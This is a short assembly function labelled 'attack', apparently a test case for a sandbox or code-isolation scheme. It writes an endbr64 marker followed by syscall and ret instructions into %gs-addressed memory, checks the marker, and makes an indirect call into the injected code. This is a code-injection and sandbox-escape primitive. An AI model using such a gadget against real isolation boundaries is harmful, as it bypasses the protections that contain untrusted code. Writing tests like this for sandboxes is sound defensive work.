function attack
    movb $0xf3,%gs:(%edi)
    movb $0x0f,%gs:1(%edi)
    movb $0x1e,%gs:2(%edi)
    movb $0xfa,%gs:3(%edi)
    movl $0xc3050f,%gs:4(%edi)
    mov %gs:(%edi),%r11d
    add $0x05e1f00d,%r11d
    jne 1f
    mov %edi,%r11d
    addr32 add %gs:0x10008,%r11
    call *%r11
1:  ret
